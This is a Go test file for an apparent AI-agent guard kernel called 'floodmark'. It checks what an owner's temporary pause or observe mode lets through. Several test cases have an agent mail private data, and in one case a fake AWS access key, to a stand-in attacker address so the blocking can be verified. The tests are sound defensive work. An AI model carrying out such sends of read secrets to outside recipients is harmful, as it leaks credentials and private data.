package kernel_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/floodmark/floodmark"
	"github.com/floodmark/floodmark/hook"
	"github.com/floodmark/floodmark/kernel"
	"github.com/floodmark/floodmark/kernel/replay"
)

// under plays a call that comes in with a pause.
func (d *desk) under(p floodmark.Pause, tool, args string) kernel.Output {
	d.t.Helper()
	in := d.input(hook.Event{Point: hook.BeforeToolCall, Call: toolCall(tool, args)})
	in.Pause = p
	return d.take(kernel.Step(d.state, d.rules, in))
}

func lasting(d *desk, length time.Duration) floodmark.Pause {
	return floodmark.Pause{From: d.at, Until: d.at.Add(length), By: "olga"}
}

// What a pause lifts, and what it never does.
func TestWhatAPauseLifts(t *testing.T) {
	for name, c := range map[string]struct {
		before     func(*desk)
		tool, args string
		want       floodmark.Verdict
		code       floodmark.Code
	}{
		"code":            {nil, "shell", `{"code":"x"}`, floodmark.Allow, floodmark.Paused},
		"a mail":          {nil, "mail", `{"to":"eve@evil.example"}`, floodmark.Allow, floodmark.Paused},
		"private data":    {func(d *desk) { d.reads("diary", `{}`, "dear diary") }, "mail", `{"to":"eve@evil.example"}`, floodmark.Allow, floodmark.Paused},
		"what is allowed": {nil, "look", `{}`, floodmark.Allow, ""},
		"admin":           {nil, "setup", `{"key":"k"}`, floodmark.Restrict, floodmark.TaintEscalation},
		"with a secret":   {func(d *desk) { d.reads("vault", `{}`, "dear key") }, "mail", `{"to":"anna@firm.example"}`, floodmark.Confirm, floodmark.FlowSecret},
		"unreadable":      {nil, "mail", `{"to":1,"to":2}`, floodmark.Restrict, floodmark.Unjudged},
	} {
		t.Run(name, func(t *testing.T) {
			d := tainted(t, "")
			if c.before != nil {
				c.before(d)
			}
			got := d.under(lasting(d, time.Hour), c.tool, c.args).Reply
			if got.Decision.Verdict != c.want || c.code != "" && got.Decision.Reasons[0].Code != c.code {
				t.Errorf("got %v %+v", got.Decision.Verdict, got.Decision.Reasons)
			}
			if paused := c.code == floodmark.Paused; paused != (got.Decision.Would != "") || paused && (got.Ticket != "" || got.Line != "") {
				t.Errorf("%+v", got)
			}
		})
	}
}

// A secret of known shape in the arguments is blocked even if no rule is about secrets.
func TestAPauseLetsNoSecretOut(t *testing.T) {
	d := tainted(t, "flows: {off: [flow-secret, flow-private, flow-fetch]}\n")
	key := "AKIA" + "Z7Q2M5X8K3V6B9N4"
	d.reads("vault", `{}`, "aws_access_key_id = "+key)
	got := d.under(lasting(d, time.Hour), "mail", `{"to":"eve@evil.example","body":"`+key+`"}`).Reply.Decision
	if got.Verdict == floodmark.Allow || got.Would != "" {
		t.Errorf("got %+v", got)
	}
}

// What the owner refused stays refused.
func TestAPauseIsNoAnswer(t *testing.T) {
	d := tainted(t, "")
	d.call("shell", `{"code":"x"}`)
	d.apply(floodmark.TicketAnswered{Ticket: d.ticket, Verdict: floodmark.Restrict, By: "olga"})
	if got := d.under(lasting(d, time.Hour), "shell", `{"code":"x"}`).Reply.Decision; got.Verdict != floodmark.Restrict {
		t.Errorf("got %+v", got)
	}
	if got := d.under(lasting(d, time.Hour), "shell", `{"code":"y"}`).Reply.Decision; got.Verdict != floodmark.Allow {
		t.Errorf("got %+v", got)
	}
}

// A pause is in effect from its beginning until just before its end, for its session, and never
// longer than the longest.
func TestWhenAPauseHolds(t *testing.T) {
	start := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	for name, c := range map[string]struct {
		pause floodmark.Pause
		want  bool
	}{
		"none":                {floodmark.Pause{}, false},
		"from now":            {floodmark.Pause{From: start, Until: start.Add(1)}, true},
		"from later":          {floodmark.Pause{From: start.Add(1), Until: start.Add(time.Hour)}, false},
		"until now":           {floodmark.Pause{From: start.Add(-time.Hour), Until: start}, false},
		"the longest":         {floodmark.Pause{From: start, Until: start.Add(floodmark.MaxPause)}, true},
		"longer":              {floodmark.Pause{From: start, Until: start.Add(floodmark.MaxPause + 1)}, false},
		"without a beginning": {floodmark.Pause{Until: start.Add(time.Hour)}, false},
		"of this session":     {floodmark.Pause{Session: "s", From: start, Until: start.Add(1)}, true},
		"of another":          {floodmark.Pause{Session: "s2", From: start, Until: start.Add(1)}, false},
	} {
		d := tainted(t, "")
		if got := d.under(c.pause, "shell", `{"code":"x"}`).Reply.Decision.Verdict == floodmark.Allow; got != c.want {
			t.Errorf("%s: holds %v", name, got)
		}
	}
}

// The session's own facts say once under which pause it decided, when that pause ended, and why.
func TestASessionWritesItsPausesDown(t *testing.T) {
	d := tainted(t, "")
	p := lasting(d, time.Hour)
	first, again := d.under(p, "shell", `{"code":"x"}`), d.under(p, "shell", `{"code":"y"}`)
	if len(kept[floodmark.PauseBegan](first)) != 1 || len(kept[floodmark.PauseBegan](again)) != 0 {
		t.Errorf("%+v\n%+v", first.Facts, again.Facts)
	}
	longer := p
	longer.Until = p.Until.Add(time.Hour)
	out := d.under(longer, "shell", `{"code":"z"}`)
	if ended := kept[floodmark.PauseEnded](out); len(ended) != 1 || ended[0].Why != "another one holds" || len(d.state.Pauses) != 1 || !d.state.Pauses[0].Same(longer) {
		t.Errorf("%+v", out.Facts)
	}
	for _, c := range []struct {
		why  string
		move time.Duration
	}{
		{"the owner ended it", 0},
		{"the clock was set back", -time.Hour - 1},
		{"its time is over", 3 * time.Hour},
	} {
		d := tainted(t, "")
		d.at = d.at.Add(time.Hour)
		p := lasting(d, time.Hour)
		d.under(p, "shell", `{"code":"x"}`)
		d.at = d.at.Add(c.move)
		in := p
		if c.move == 0 {
			in = floodmark.Pause{}
		}
		out := d.under(in, "shell", `{"code":"x"}`)
		ended := kept[floodmark.PauseEnded](out)
		if len(ended) != 1 || ended[0].Why != c.why || d.state.Pauses != nil || out.Reply.Decision.Verdict != floodmark.Confirm {
			t.Errorf("%s: %+v %+v", c.why, ended, out.Reply.Decision)
		}
	}
}

// A paused session judged again, from its facts alone, gives the same answers,
// and a copy of its state knows the pause.
func TestAPauseIsReplayed(t *testing.T) {
	d := tainted(t, "")
	d.call("shell", `{"code":"x"}`)
	p := lasting(d, time.Hour)
	d.under(p, "shell", `{"code":"x"}`)
	d.under(p, "setup", `{"key":"k"}`)
	d.call("shell", `{"code":"y"}`)
	var facts []replay.Recorded
	for _, f := range d.facts {
		facts = append(facts, replay.Recorded{At: d.at, Fact: f})
	}
	a, err := replay.Retrial{Now: d.rules}.Session(facts, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, one := range a.Decisions {
		if one.Outcome != replay.Unchanged {
			t.Errorf("%+v: %s", one.Action, one.Difference())
		}
	}
	if a.Asked != a.WouldAsk || len(a.Decisions) != 5 {
		t.Errorf("%+v", a)
	}
	d.under(p, "shell", `{"code":"x"}`)
	data, err := d.state.Snapshot()
	if err != nil {
		t.Fatal(err)
	}
	back, err := kernel.Restore(data)
	if err != nil || !slices.Equal(back.Pauses, d.state.Pauses) || len(back.Pauses) != 1 {
		t.Errorf("%+v %v", back.Pauses, err)
	}
}

// A pause is told to the owner, and not to the model.
func TestAPauseIsToldToTheOwner(t *testing.T) {
	d := tainted(t, "")
	tell := func(ev hook.Event) hook.Reply {
		in := d.input(ev)
		in.Pause = lasting(d, time.Hour)
		return d.take(kernel.Step(d.state, d.rules, in)).Reply
	}
	const want = "paused by you until 01:00 UTC, nothing but admin and secrets is enforced"
	if got := tell(hook.Event{Point: hook.MessageReceived, Origin: olga(), Text: "go on", Typed: true}); got.Notice != want || got.Consumed {
		t.Errorf("%+v", got)
	}
	if got := tell(hook.Event{Point: hook.BeforeLLMCall}); got.Notice != "" || got.Line != "" {
		t.Errorf("%+v", got)
	}
	if got := tell(hook.Event{Point: hook.BeforeResponseEmit, Text: "done", Audience: hook.ToOwner}); !strings.HasSuffix(got.Footer, want) {
		t.Errorf("%+v", got)
	}
	if got := tell(hook.Event{Point: hook.MessageReceived, Origin: olga(), Text: ".status", Typed: true}); !got.Consumed || !slices.Contains(lines(got.Notice), "- "+want) {
		t.Errorf("%+v", got)
	}
}

func lines(text string) []string { return strings.Split(text, "\n") }

// What observing lifts, and what it never does.
func TestWhatObservingLifts(t *testing.T) {
	for name, c := range map[string]struct {
		before     func(*desk)
		tool, args string
		want       floodmark.Verdict
		would      string
	}{
		"code":          {nil, "shell", `{"code":"x"}`, floodmark.Allow, "confirm"},
		"a mail":        {nil, "mail", `{"to":"eve@evil.example"}`, floodmark.Allow, "confirm"},
		"with a secret": {func(d *desk) { d.reads("vault", `{}`, "dear key") }, "mail", `{"to":"anna@firm.example"}`, floodmark.Allow, "confirm"},
		"nothing":       {nil, "look", `{}`, floodmark.Allow, ""},
		"admin":         {nil, "setup", `{"key":"k"}`, floodmark.Restrict, ""},
		"unreadable":    {nil, "mail", `{"to":1,"to":2}`, floodmark.Restrict, ""},
	} {
		t.Run(name, func(t *testing.T) {
			d := tainted(t, "")
			if c.before != nil {
				c.before(d)
			}
			p := lasting(d, floodmark.MaxObserve)
			p.Observe = true
			got := d.under(p, c.tool, c.args).Reply
			if got.Decision.Verdict != c.want || got.Decision.Would != c.would || c.would != "" && got.Decision.Reasons[0].Code != floodmark.DryRun {
				t.Errorf("got %v %q %+v", got.Decision.Verdict, got.Decision.Would, got.Decision.Reasons)
			}
			if p.Observe = false; p.Holds(d.at) {
				t.Error("a pause holds as long as observing does")
			}
		})
	}
}
